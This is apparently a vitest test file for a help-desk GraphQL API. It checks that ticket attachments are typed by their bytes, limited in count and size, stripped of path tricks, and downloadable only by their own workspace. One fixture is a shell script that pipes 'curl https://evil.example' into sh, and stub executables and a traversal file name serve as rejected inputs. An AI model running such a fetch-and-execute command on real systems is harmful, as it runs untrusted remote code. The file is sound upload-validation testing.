// Attaching files to tickets through real multipart requests (GraphQL multipart request spec): what is accepted is
// decided by the bytes, limits are enforced per file and per message, a refused or failed change leaves no file
// behind, and a file is downloaded byte for byte, only by its own workspace.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorCode, type GraphQLResponse, rawId, startTestApp, type TestApp, uniqueEmail, type Workspace } from './harness.js';

let t: TestApp;
let acme: Workspace;
let storageDir: string;
let productId: string;

// ---- files of every kind, built from their bytes

// A 1×1 PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const TEXT = Buffer.from('Sipariş 1001 hâlâ gelmedi.\nOrder 1001 has still not arrived.\n');
const CSV = Buffer.from('order,status\n1001,missing\n1002,delivered\n');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 1)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126, 0x90)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');

/** A minimal ZIP (stored, no compression): enough for office documents, which are ZIPs of XML parts. */
function zip(entries: Record<string, string>): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const data = Buffer.from(text);
    const fileName = Buffer.from(name);
    const crc = zlib.crc32(data);
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt32LE(crc, 14);
    header.writeUInt32LE(data.length, 18);
    header.writeUInt32LE(data.length, 22);
    header.writeUInt16LE(fileName.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(fileName.length, 28);
    entry.writeUInt32LE(offset, 42);
    local.push(header, fileName, data);
    central.push(entry, fileName);
    offset += header.length + fileName.length + data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(central.length / 2, 8);
  end.writeUInt16LE(central.length / 2, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

const DOCX = zip({
  '[Content_Types].xml':
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  'word/document.xml': '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
});

// ---- talking to the API like a browser that uploads

interface FilePart {
  /** Where the file goes in the variables, e.g. `input.attachments.0`. */
  path: string;
  name: string;
  bytes: Uint8Array;
  /** What the client claims; the server ignores it. */
  type?: string;
}

/** A real multipart request (GraphQL multipart request spec), encoded by the platform's FormData. */
async function gqlUpload(query: string, variables: Record<string, unknown>, files: FilePart[], token: string, streamed?: { sent: number }) {
  const form = new FormData();
  form.append('operations', JSON.stringify({ query, variables }));
  form.append('map', JSON.stringify(Object.fromEntries(files.map((file, index) => [String(index), [`variables.${file.path}`]]))));
  files.forEach((file, index) =>
    form.append(String(index), new Blob([new Uint8Array(file.bytes)], { type: file.type ?? 'application/octet-stream' }), file.name),
  );
  const encoded = new Response(form);
  const bytes = new Uint8Array(await encoded.arrayBuffer());
  // Streamed in 64 KB chunks with no length given, like a slow client: shows how much the server actually read.
  const body = streamed
    ? new ReadableStream<Uint8Array>({
        pull(controller) {
          if (streamed.sent >= bytes.length) return controller.close();
          const chunk = bytes.subarray(streamed.sent, streamed.sent + 64 * 1024);
          streamed.sent += chunk.length;
          controller.enqueue(chunk);
        },
      })
    : bytes;
  const response = await t.app.yoga.fetch('http://deskgraph.test/graphql', {
    method: 'POST',
    headers: { 'content-type': encoded.headers.get('content-type')!, authorization: `Bearer ${token}` },
    body,
    duplex: 'half',
  } as RequestInit);
  return (await response.json()) as GraphQLResponse;
}

const files = (...parts: Omit<FilePart, 'path'>[]) => parts.map((part, index) => ({ ...part, path: `input.attachments.${index}` }));
const nulls = (count: number) => Array.from({ length: count }, () => null);

const ATTACHMENT_FIELDS = 'id fileName contentType size sha256 url';

const createTicketWith = (parts: Omit<FilePart, 'path'>[], token = acme.token) =>
  gqlUpload(
    `mutation($input: CreateTicketInput!) { createTicket(input: $input) { id attachments { ${ATTACHMENT_FIELDS} } } }`,
    { input: { productId, customer: { name: 'Ahmet Kaya', email: uniqueEmail('customer') }, subject: 'Parcel', attachments: nulls(parts.length) } },
    files(...parts),
    token,
  );

async function newTicket() {
  const created = await t.gql(
    `mutation($input: CreateTicketInput!) { createTicket(input: $input) { id } }`,
    { input: { productId, customer: { name: 'Deniz', email: uniqueEmail('customer') }, subject: 'Invoice' } },
    acme.token,
  );
  return created.data!.createTicket.id as string;
}

const replyWith = (ticketId: string, parts: Omit<FilePart, 'path'>[], extra: Record<string, unknown> = {}, streamed?: { sent: number }) =>
  gqlUpload(
    `mutation($input: ReplyToTicketInput!) { replyToTicket(input: $input) { message { id attachments { ${ATTACHMENT_FIELDS} } } } }`,
    { input: { ticketId, body: 'Please find the files attached.', attachments: nulls(parts.length), ...extra } },
    files(...parts),
    acme.token,
    streamed,
  );

/** Every file in storage (finished or not), to prove that refusals leave nothing behind. */
function storedFiles(dir = storageDir): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? storedFiles(path.join(dir, entry.name)) : [path.join(dir, entry.name)],
  );
}

const download = (url: string, token?: string) =>
  t.app.yoga.fetch(`http://deskgraph.test${url}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

beforeAll(async () => {
  storageDir = fs.mkdtempSync(path.join(os.tmpdir(), 'deskgraph-attachments-'));
  t = await startTestApp({ ATTACHMENT_STORAGE_DIR: storageDir });
  acme = await t.signUp('Acme');
  productId = (await t.gql(`mutation { createProduct(input: { name: "Acme Shop", channels: [EMAIL] }) { id } }`, {}, acme.token)).data!
    .createProduct.id;
});
afterAll(async () => {
  await t.stop();
  fs.rmSync(storageDir, { recursive: true, force: true });
});

describe('attaching files', () => {
  it('an agent creates a ticket with a screenshot; its type, size and checksum come from the bytes, not the client', async () => {
    const result = await createTicketWith([{ name: 'screenshot.png', bytes: PNG, type: 'application/x-msdownload' }]);
    expect(result.errors).toBeUndefined();
    const [attachment] = result.data!.createTicket.attachments;
    expect(attachment).toMatchObject({ fileName: 'screenshot.png', contentType: 'image/png', size: PNG.length, sha256: sha256(PNG) });
    expect(attachment.url).toBe(`/attachments/${rawId(attachment.id)}`);
  });

  it('"save as template" keeps the ticket\'s files (the template keeps none), and a refused template leaves no file', async () => {
    const save = (templateName: string) =>
      gqlUpload(
        `mutation($input: CreateTicketAndTemplateInput!) { createTicketAndTemplate(input: $input) { ticket { attachments { ${ATTACHMENT_FIELDS} } } template { id } } }`,
        {
          input: {
            templateName,
            ticket: { productId, customer: { name: 'Ahmet Kaya', email: uniqueEmail('customer') }, subject: 'Parcel', attachments: [null] },
          },
        },
        [{ name: 'label.pdf', bytes: PDF, path: 'input.ticket.attachments.0' }],
        acme.token,
      );
    const saved = await save('Parcel with label');
    expect(saved.errors).toBeUndefined();
    expect(saved.data!.createTicketAndTemplate.ticket.attachments).toMatchObject([{ fileName: 'label.pdf', contentType: 'application/pdf' }]);
    const before = storedFiles();
    const refused = await save('Parcel with label');
    expect(refused.errors?.[0]?.extensions).toMatchObject({ code: 'CONFLICT', field: 'input.templateName' });
    expect(storedFiles()).toEqual(before);
  });

  it('an agent replies with five files of the accepted kinds', async () => {
    const ticketId = await newTicket();
    const result = await replyWith(ticketId, [
      { name: 'photo.png', bytes: PNG },
      { name: 'invoice.pdf', bytes: PDF },
      { name: 'notes.txt', bytes: TEXT },
      { name: 'orders.csv', bytes: CSV },
      { name: 'letter.docx', bytes: DOCX },
    ]);
    expect(result.errors).toBeUndefined();
    expect(result.data!.replyToTicket.message.attachments.map((file: { fileName: string; contentType: string }) => [file.fileName, file.contentType])).toEqual([
      ['photo.png', 'image/png'],
      ['invoice.pdf', 'application/pdf'],
      ['notes.txt', 'text/plain'],
      ['orders.csv', 'text/plain'],
      ['letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ]);
  });

  it('a sixth file is refused, and nothing of the message is kept', async () => {
    const ticketId = await newTicket();
    const before = storedFiles().length;
    const result = await replyWith(ticketId, Array.from({ length: 6 }, (_, index) => ({ name: `photo-${index}.png`, bytes: PNG })));
    expect(result.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.attachments' });
    expect(result.errors?.[0]?.message).toMatch(/at most 5/i);
    expect(storedFiles()).toHaveLength(before);
    const messages = await t.gql(`query($id: ID!) { ticket(id: $id) { messages { totalCount } } }`, { id: ticketId }, acme.token);
    expect(messages.data?.ticket.messages.totalCount ?? 0).toBe(0);
  });

  it('a file over 20 MB is refused by its name as soon as it passes the limit, and no part of it is stored', async () => {
    const ticketId = await newTicket();
    const before = storedFiles().length;
    const big = Buffer.alloc(21 * 1024 * 1024, 'a');
    const streamed = { sent: 0 };
    const result = await replyWith(ticketId, [{ name: 'logs.txt', bytes: big }], {}, streamed);
    expect(result.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.attachments' });
    expect(result.errors?.[0]?.message).toContain('"logs.txt" is larger than 20 MB');
    // The server stopped reading at the limit instead of taking in the whole file to refuse it.
    expect(streamed.sent).toBeLessThan(big.length);
    expect(storedFiles()).toHaveLength(before);
  });

  it.each([
    ['a Linux program', 'cute-cat.png', ELF],
    ['a Windows program', 'invoice.pdf', PE],
    ['a shell script', 'notes.txt', SCRIPT],
  ])('%s renamed to look harmless is refused by its name', async (_kind, name, bytes) => {
    const result = await createTicketWith([{ name, bytes, type: 'image/png' }]);
    expect(result.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.attachments' });
    expect(result.errors?.[0]?.message).toContain(`"${name}" cannot be attached`);
  });

  it('binary content of no accepted format is refused, even when it is named .txt', async () => {
    const result = await createTicketWith([{ name: 'data.txt', bytes: Buffer.from([0x01, 0x02, 0x00, 0xff, 0xfe, 0x00, 0x10]) }]);
    expect(result.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.attachments' });
  });

  it('a file name keeps no path and no control characters', async () => {
    const result = await createTicketWith([{ name: '..\\..\\Users\\ayse\\re\u0007port\u202e.txt', bytes: TEXT }]);
    expect(result.errors).toBeUndefined();
    expect(result.data!.createTicket.attachments[0].fileName).toBe('report.txt');
  });

  it('a value that is not a file is refused with the field to fix', async () => {
    const result = await t.gql(
      `mutation($input: CreateTicketInput!) { createTicket(input: $input) { id } }`,
      { input: { productId, customer: { name: 'X', email: uniqueEmail() }, attachments: ['not a file'] } },
      acme.token,
    );
    expect(result.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.attachments' });
  });

  it('a reply that fails after its files arrived leaves no file behind', async () => {
    const ticketId = await newTicket();
    const before = storedFiles().length;
    const elsewhere = await t.signUp('Elsewhere');
    const foreignStatus = (await t.gql(`{ ticketStatuses { id } }`, {}, elsewhere.token)).data!.ticketStatuses[0].id;
    const result = await replyWith(ticketId, [{ name: 'photo.png', bytes: PNG }], { statusId: foreignStatus });
    expect(errorCode(result)).toBe('NOT_FOUND');
    expect(storedFiles()).toHaveLength(before);
    expect(await t.app.services.db.prisma.attachment.count({ where: { ticketId: rawId(ticketId) } })).toBe(0);
  });
});

describe('downloading files', () => {
  it('gives back exactly the uploaded bytes, as a download with the detected type', async () => {
    const created = await createTicketWith([{ name: 'Fatura Ekim.pdf', bytes: PDF, type: 'text/html' }]);
    const [attachment] = created.data!.createTicket.attachments;
    const response = await download(attachment.url, acme.token);
    expect(response.status).toBe(200);
    expect(Buffer.from(await response.arrayBuffer()).equals(PDF)).toBe(true);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="Fatura Ekim.pdf"; filename*=UTF-8''Fatura%20Ekim.pdf`);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('is refused to another workspace as if the file did not exist, and to anyone without a token', async () => {
    const created = await createTicketWith([{ name: 'private.png', bytes: PNG }]);
    const { url } = created.data!.createTicket.attachments[0];
    const other = await t.signUp('Other');
    const foreign = await download(url, other.token);
    expect(foreign.status).toBe(404);
    expect(await foreign.text()).not.toContain('private.png');
    expect((await download(url)).status).toBe(401);
  });
});
